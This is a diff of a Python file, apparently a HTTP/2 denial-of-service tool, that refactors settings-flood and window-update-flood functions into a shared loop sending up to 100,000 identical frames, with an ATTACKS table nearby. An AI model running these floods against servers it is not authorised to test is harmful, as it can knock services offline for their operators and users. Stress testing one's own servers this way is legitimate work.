@@ -119,32 +119,27 @@ def continuation(s, limit=5000):
     return sent, not drain(s)
 
 
-def settings(s, limit=100000):
+def repeat(s, frame, limit=100000):
+    """Send the same frame over and over."""
     sent = 0
-    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
     for i in range(limit):
+        if expired():
+            break
         if not send(s, frame):
             return sent, True
         sent += 1
-        if expired():
-            break
         if i % 500 == 0 and not drain(s):
             return sent, True
     return sent, not drain(s)
 
 
-def window_update(s, limit=100000):
-    sent = 0
-    frame = WindowUpdateFrame(0, window_increment=1).serialize()
-    for i in range(limit):
-        if not send(s, frame):
-            return sent, True
-        sent += 1
-        if expired():
-            break
-        if i % 500 == 0 and not drain(s):
-            return sent, True
-    return sent, not drain(s)
+def settings(s):
+    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
+    return repeat(s, frame.serialize())
+
+
+def window_update(s):
+    return repeat(s, WindowUpdateFrame(0, window_increment=1).serialize())
 
 
 ATTACKS = {
